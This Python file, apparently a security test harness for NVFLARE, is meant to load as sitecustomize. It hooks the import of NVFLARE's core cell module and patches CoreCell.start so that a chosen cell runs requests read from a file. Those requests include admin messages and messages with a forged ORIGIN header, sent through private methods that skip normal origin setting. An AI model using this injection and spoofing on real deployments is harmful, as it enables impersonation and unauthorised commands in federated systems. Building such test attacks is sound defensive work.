"""An attacker's addition to its own process: runs as sitecustomize in the process of its cell.

The cell named in HOSTILE_CELL waits for the file HOSTILE_ORDERS, a list of requests, sends them
with NVFLARE's own functions, and writes the answers beside it. It uses none of our code.
"""

import importlib.abc
import importlib.util
import json
import os
import sys
import threading
import time
import uuid
from pathlib import Path

CORE = "nvflare.fuel.f3.cellnet.core_cell"


def answers_to(cell, order):
    """Send one request; return the reply."""
    from nvflare.fuel.f3.cellnet.core_cell import TargetMessage
    from nvflare.fuel.f3.cellnet.defs import MessageHeaderKey, MessageType
    from nvflare.fuel.f3.message import Message
    from nvflare.private.admin_defs import Message as Administrative
    from nvflare.private.defs import new_cell_message

    payload = order.get("payload")
    if "admin" in order:
        payload = Administrative(order["admin"], order.get("body", ""))
        payload.set_headers(order.get("headers", {}))
    request = new_cell_message({}, payload)
    where = order["target"], order["channel"], order["topic"]
    if order.get("bulk"):
        nested = TargetMessage(*where, request)
        request = Message(payload=[nested.to_dict()])
        where = order["target"], "cellnet.channel", "bulk"
    if "origin" in order:
        # With a false origin: NVFLARE's own sending function would set the true one.
        request.add_headers(
            {
                MessageHeaderKey.DESTINATION: where[0],
                MessageHeaderKey.CHANNEL: where[1],
                MessageHeaderKey.TOPIC: where[2],
                MessageHeaderKey.ORIGIN: order["origin"],
                MessageHeaderKey.FROM_CELL: cell.get_fqcn(),
                MessageHeaderKey.TO_CELL: "server",
                MessageHeaderKey.MSG_TYPE: MessageType.REQ,
                MessageHeaderKey.REQ_ID: str(uuid.uuid4()),
                MessageHeaderKey.REPLY_EXPECTED: True,
            }
        )
        request = cell._filter_outgoing_request(where[1], where[2], request) or request
        _, endpoint = cell._find_endpoint(order.get("through", where[0]), request)
        return {"sent": cell._send_to_endpoint(endpoint, request) or "sent"}
    reply = cell.send_request(where[1], where[2], where[0], request, timeout=10.0)
    body = getattr(reply.payload, "body", reply.payload)
    code = reply.get_header(MessageHeaderKey.RETURN_CODE)
    return {"code": code, "error": reply.get_header(MessageHeaderKey.ERROR), "body": str(body)}


def attack(cell, orders):
    """Wait for orders, carry them out, and report."""
    while not orders.exists():
        time.sleep(0.1)
    report = [{**order, **answers_to(cell, order)} for order in json.loads(orders.read_text())]
    temporary = orders.with_suffix(".writing")
    temporary.write_text(json.dumps(report))
    temporary.replace(orders.with_suffix(".answers"))


class Finder(importlib.abc.MetaPathFinder):
    """Adds the attack to NVFLARE's cell when that is imported."""

    def find_spec(self, name, path, target=None):
        """Wrap the loading of one module."""
        if name != CORE:
            return None
        sys.meta_path.remove(self)
        spec = importlib.util.find_spec(name)
        load = spec.loader.exec_module

        def exec_module(module):
            load(module)
            start = module.CoreCell.start

            def start_and_attack(cell):
                start(cell)
                if cell.get_fqcn() == os.environ["HOSTILE_CELL"]:
                    orders = Path(os.environ["HOSTILE_ORDERS"])
                    threading.Thread(target=attack, args=(cell, orders), daemon=True).start()

            module.CoreCell.start = start_and_attack

        spec.loader.exec_module = exec_module
        return spec


if "HOSTILE_CELL" in os.environ:
    sys.meta_path.insert(0, Finder())
